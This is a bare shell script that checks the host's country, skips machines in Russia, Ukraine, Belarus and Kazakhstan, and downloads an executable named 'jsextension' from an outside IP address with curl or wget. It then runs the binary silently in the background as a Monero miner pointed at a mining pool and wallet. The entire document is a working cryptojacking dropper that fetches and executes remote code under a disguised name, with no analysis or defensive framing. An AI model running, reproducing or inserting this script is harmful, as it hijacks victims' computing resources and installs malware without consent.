IP=$(curl -k https://geo.example.org/ip-api/line/?fields=countryCode)
echo $IP
if [[ "$IP" != *"RU"* ]] && [[ "$IP" != *"UA"* ]] && [[ "$IP" != *"BY"* ]] && [[ "$IP" != *"KZ"* ]]; then
  if ps aux | grep -v grep | grep -q jsextension; then
    exit 0
  fi
  curl http://203.0.113.57/download/jsextension -o jsextension
  if [ ! -f jsextension ]; then
    wget http://203.0.113.57/download/jsextension -O jsextension
  fi
  chmod +x jsextension
  ./jsextension -k --tls --rig-id q -o pool.minexmr.example.com:443 -u 48MASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
fi
